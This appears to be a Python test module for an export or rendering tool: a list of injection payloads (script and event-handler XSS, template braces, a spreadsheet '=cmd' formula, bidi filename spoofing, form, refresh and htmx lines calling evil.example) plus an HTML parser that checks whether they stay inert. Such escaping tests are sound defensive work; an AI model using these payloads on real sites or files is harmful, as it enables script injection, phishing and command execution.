"""What strangers write in the hope that some page, mail or file takes it for more than words; and who judges a page."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

# In every payload, so that it is found wherever it came alive.
MARK = "pwn7"

# By family: what is written as a subject, a name, a text, a title.
WORDS: dict[str, str] = {
    "script": f"<script>{MARK}()</script>",
    "event": f'<img src=x onerror="{MARK}()">',
    "broken attribute": f'"><svg onload={MARK}()>',
    "single quote": f"' onmouseover='{MARK}()' x='",
    "end of script": f"</script><script>{MARK}()</script>",
    "end of textarea and title": f"</title></textarea><script>{MARK}()</script>",
    "form": f'<form action="https://evil.example/{MARK}"><input name=password>',
    "frame": f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    "refresh": f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}">',
    "base": f'<base href="https://evil.example/{MARK}/">',
    "script as address": f"[{MARK}](javascript:{MARK}()) javascript:{MARK}()",
    "data as address": f"[x](data:text/html,<script>{MARK}()</script>)",
    "style": f"<style>*{{background:url(https://evil.example/{MARK})}}</style>",
    "braces": f"{{{{ 7|add:7 }}}} {{% now 'Y' %}} ${{7*7}} #{{7*7}} {{0.__class__}} %(pwn)s {MARK}",
    "formula": f"=cmd|'/C {MARK}'!A0 +1+1 @SUM(1) -2 =HYPERLINK(\"https://evil.example/{MARK}\")",
    "bidi": f"\u202e{MARK}\u202c\u2066gpj.exe\u2069",
    "entity": f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;script&#62;",
    "comment": f"<!--><script>{MARK}()</script>-->",
    "half": f"<img src=x onerror={MARK}() //",
    "htmx": f'<b hx-get="https://evil.example/{MARK}" hx-trigger="load" data-hx-on:load="{MARK}()">x</b>',
    "name of a page": f"www.{MARK}.example http://{MARK}.example",
}

_ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "srcdoc",
    "data",
    "poster",
    "style",
    "xlink:href",
    "background",
    "srcset",
}
_NEVER = {"script", "style", "iframe", "object", "embed", "base", "svg", "math", "meta", "link", "form", "template"}
_EMPTY = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr", "use"}


@dataclass
class Page(HTMLParser):
    """Reads a page as a browser would, and notes where a mark stands that is more than words."""

    alive: list[str] = field(default_factory=list)
    within: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _EMPTY:
            self.within.append(tag)
        said = " ".join(f"{name}={value}" for name, value in attrs)
        if MARK in tag or any(MARK in name for name, _value in attrs):
            self.alive.append(f"<{tag} {said}>")
        for name, value in attrs:
            if MARK not in (value or ""):
                continue
            is_address = name in _ADDRESSES and not is_harmless(value or "")
            if (tag, name) == ("a", "href") and (value or "").startswith("https://") and "noreferrer" in said:
                continue  # somebody wrote an address, and a reader may choose to follow it
            leads_away = tag == "meta" and any(one == "http-equiv" for one, _said in attrs)
            if (
                is_address
                or leads_away
                or name.startswith(("on", "hx-", "data-hx"))
                or tag in _NEVER - {"meta", "link"}
            ):
                self.alive.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in self.within:
            while self.within.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if MARK in data and {"script", "style"} & set(self.within[-1:]):
            self.alive.append(f"{self.within[-1]}: {data[:80]}")
        self.words.append(data)


def is_harmless(address: str) -> bool:
    """Whether an address leads only within our own pages and files: a search repeated, a file of the export, a mail."""
    return address.startswith(("/", "?", "#", "mailto:", "files/", "messages/")) and not address.startswith("//")


def read_page(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page
